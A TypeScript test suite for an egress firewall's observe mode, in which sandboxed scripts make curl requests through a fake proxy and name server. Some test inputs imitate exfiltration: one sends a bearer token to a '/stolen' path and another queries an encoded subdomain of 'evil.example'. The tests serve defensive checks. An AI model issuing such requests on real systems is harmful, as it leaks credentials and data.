import { appendFileSync, readFileSync, writeFileSync } from 'node:fs'
import { createSocket, type Socket } from 'node:dgram'
import { createServer as createHttpServer } from 'node:http'
import { connect, createServer } from 'node:net'
import { join } from 'node:path'
import t, { type Test } from 'tap'
import { leakBoundBits } from '#firewall/ledger/leak-bound.js'
import { OBSERVED_BUDGET } from '#firewall/policy-engine/observed.js'
import { makeWorkspace, type Workspace } from './fixtures/run.js'
import { listen } from './fixtures/upstream.js'

// `egress run --observe`: what unlisted hosts received, and that everything else is as in any run. A proxy of the operator's network
// stands for the internet: every name leads to one server, which records what it gets.

const TOKEN = 'real-token-0123456789abcdef'

interface World {
  readonly space: Workspace
  /** `GET seen.example /a`, and the credential if it came along, in the order in which they came. */
  readonly received: string[]
  /** Runs a script in a sandbox. */
  readonly run: (script: string, ...options: string[]) => ReturnType<Workspace['run']>
}

async function setUp(t: Test): Promise<World> {
  const received: string[] = []
  const origin = createHttpServer((request, response) => {
    const carried = request.headers.authorization === `Bearer ${TOKEN}` ? ' with the token' : ''
    received.push(`${request.method ?? ''} ${request.headers.host ?? ''} ${request.url ?? ''}${carried}`)
    response.end(`hello from ${request.headers.host ?? ''}, ${TOKEN}\n`)
  })
  const port = await listen(origin)
  const proxy = createServer((socket) => {
    socket.on('error', () => undefined)
    socket.once('data', () => {
      const upstream = connect(port, '127.0.0.1', () => {
        socket.write('HTTP/1.1 200 OK\r\n\r\n')
        socket.pipe(upstream).pipe(socket)
      })
      upstream.on('error', () => socket.destroy())
    })
  })
  const proxyPort = await listen(proxy)
  const names = await startNames()
  const space = makeWorkspace(
    `services:
  api:
    url: http://api.example
    allow_plaintext: true
    credential: { bearer: "\${TOKEN}" }
    rules: [{ deny: "* /admin/**" }, { allow: GET /ok }]
allow:
  - { host: "*.wild.example", scheme: http, methods: [GET] }
agents:
  default: { services: [api], allow: all }
  other: {}
upstream:
  proxy: "http://127.0.0.1:${String(proxyPort)}"
  servers: ["127.0.0.1:${String(names.address().port)}"]
`,
    { TOKEN },
  )
  t.teardown(() => {
    origin.close()
    proxy.close()
    names.close()
    space.remove()
  })
  return {
    space,
    received,
    run(script, ...options) {
      writeFileSync(join(space.directory, 'agent.sh'), script, { mode: 0o755 })
      return space.run(['run', ...options, '--', 'sh', './agent.sh'])
    },
  }
}

/** A name server that knows one private address, and else nothing: the proxy alone finds the other names. */
async function startNames(): Promise<Socket> {
  const socket = createSocket('udp4')
  socket.on('message', (query, { port, address }) => {
    const end = query.indexOf(0, 12) + 5
    const isPrivate = query.includes('private') && query.readUInt16BE(end - 4) === 1
    const header = Buffer.from(query.subarray(0, 12))
    header.writeUInt16BE(isPrivate ? 0x8180 : 0x8183, 2)
    header.writeUInt16BE(isPrivate ? 1 : 0, 6)
    header.fill(0, 8)
    const answer = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 0, 0, 7])
    socket.send(
      Buffer.concat([header, query.subarray(12, end), ...(isPrivate ? [answer] : [])]),
      port,
      address,
    )
  })
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve))
  return socket
}

const get = (url: string, more = '') =>
  `echo "${url} $(curl -s -m 20 -o /tmp/body -w '%{http_code}' ${more} '${url}') $(head -c 300 /tmp/body 2>/dev/null | tr '\\n' ' ')"; rm -f /tmp/body`

void t.test('unlisted hosts pass without credentials, and all else is in force', async (t) => {
  const { run, received, space } = await setUp(t)
  const encoded = 'k5q2x7m9abdefghijlnoprs'
  const { stdout, stderr, code } = await run(
    [
      get('http://seen.example/a?x=1'),
      get('http://seen.example/write', '-d data'),
      get('http://seen.example/by-name', "--noproxy '*'"),
      get('http://api.example/ok'),
      get('http://api.example/none'),
      get('http://api.example/ADMIN/x'),
      get('http://private.example/'),
      get(`http://${encoded}.evil.example/`),
      get(`http://${encoded}.wild.example/`),
      get('http://seen.example/stolen', '-H "Authorization: Bearer $TOKEN"'),
      get('http://seen.example:8080/port'),
      get('http://single/'),
      get('http://printer.local/'),
    ].join('\n'),
    '--observe',
  )
  t.equal(code, 0, stderr)
  t.strictSame(received, [
    'GET seen.example /a?x=1',
    'POST seen.example /write',
    'GET seen.example /by-name',
    'GET api.example /ok with the token',
  ])
  t.match(stdout, /seen\.example\/a\?x=1 200 hello from seen\.example/)
  t.notMatch(stdout, TOKEN, 'a token that comes back is redacted, also from there')
  for (const [url, status] of [
    ['http://api.example/none', 403],
    ['http://api.example/ADMIN/x', 403],
    ['http://private.example/', 403],
  ] as const)
    t.ok(stdout.includes(`${url} ${String(status)}`), `${url}: ${stdout}`)

  const told = stderr.split('\n')
  const bytes = Math.round(leakBoundBits(OBSERVED_BUDGET) / 8 / 1024)
  t.match(
    told.find((line) => line.includes('OBSERVING')),
    /^egress: WARNING: OBSERVING: hosts that the policy does not list pass, without credentials\. /,
  )
  t.match(
    told.find((line) => line.includes('OBSERVING')),
    `at most ${String(bytes)} KiB a day`,
  )
  t.match(
    told.at(-2),
    /^egress: WARNING: OBSERVED: 3 requests to 1 host that the policy does not list passed \(seen\.example 3\): egress suggest --sandbox \S+$/,
  )

  const log = (await space.run(['logs', '--json'])).stdout.trimEnd().split('\n')
  const records = log.map((line) => JSON.parse(line) as { readonly event: Record<string, unknown> })
  const seen = records.filter((record) => JSON.stringify(record).includes('"verdict":"observe"'))
  t.match(
    seen.find(({ event }) => event['action'] === 'http-request'),
    {
      event: { reason: 'observed', type: ['access', 'allowed'] },
      rule: { name: 'observe' },
      url: { domain: 'seen.example', path: '/a' },
      egress: { verdict: 'observe', credential: null, service: null },
    },
  )
  t.match(
    seen.find(({ event }) => event['action'] === 'dns-query'),
    {
      event: { reason: 'observed' },
      egress: { wildcard: '**', verdict: 'observe' },
    },
  )
  const reasons = new Set(records.map(({ event }) => String(event['reason'])))
  for (const reason of [
    'no-rule',
    'denied-by-rule',
    'name-looks-encoded',
    'placeholder-misplaced',
    'address-refused',
  ])
    t.ok(reasons.has(reason), reason)
  t.match((await space.run(['logs', '--reason', 'observed'])).stdout, /OBSERVE GET http:\/\/seen\.example\/a/)
  t.equal((await space.run(['logs', 'verify'])).code, 0)
})

void t.test('what an observed run needed lets the same run pass without observing', async (t) => {
  const { run, received, space } = await setUp(t)
  const script = [
    get('http://one.example/a/b?c=d'),
    get('http://two.example/'),
    get('http://two.example/', '-I'),
  ].join('\n')
  const before = await run(script)
  t.notMatch(before.stdout, ' 200 ')
  t.strictSame(received, [], 'nothing passes without --observe')
  const observed = await run(script, '--observe')
  t.equal(observed.stdout.match(/^http\S+ 200 /gm)?.length, 3, observed.stdout)
  const [, words = ''] = /: egress (suggest --sandbox \S+)$/m.exec(observed.stderr) ?? []
  const suggested = await space.run(words.split(' '))
  t.equal(suggested.code, 0, suggested.stderr)
  appendFileSync(join(space.directory, 'egress.yaml'), suggested.stdout)
  t.equal((await space.run(['check'])).code, 0, readFileSync(join(space.directory, 'egress.yaml'), 'utf8'))
  received.length = 0
  const after = await run(
    `${script}\n${get('http://two.example/other')}\n${get('http://two.example/', '-d x')}`,
  )
  t.strictSame(
    received,
    ['GET one.example /a/b?c=d', 'GET two.example /', 'HEAD two.example /'],
    after.stdout,
  )
})

void t.test('names cost something: all that are not listed together', async (t) => {
  const { run, received } = await setUp(t)
  const names = Array.from({ length: 80 }, (_, index) => `n${String(index)}.example`)
  const { stdout } = await run(
    `for n in ${names.join(' ')}; do curl -s -m 20 -o /dev/null http://$n/ & done; wait; echo done`,
    '--observe',
  )
  t.match(stdout, 'done')
  t.equal(received.length, OBSERVED_BUDGET.names, 'the next new name is denied')
})

void t.test('a gateway that serves cannot observe', async (t) => {
  const { space } = await setUp(t)
  t.match(await space.run(['serve', '--observe']), { code: 2, stderr: /Unknown option `--observe`/ })
  t.match(await space.run(['run', '--observe', '--backend', 'docker', '--', 'true']), {
    code: 125,
    stderr: /--observe requires the namespaces backend/,
  })
  for (const key of ['observe: true', 'settings: { observe: true }']) {
    writeFileSync(join(space.directory, 'other.yaml'), `${key}\n`)
    t.match(await space.run(['check', 'other.yaml']), { code: 2, stderr: /Unknown key `observe`/ })
  }
})
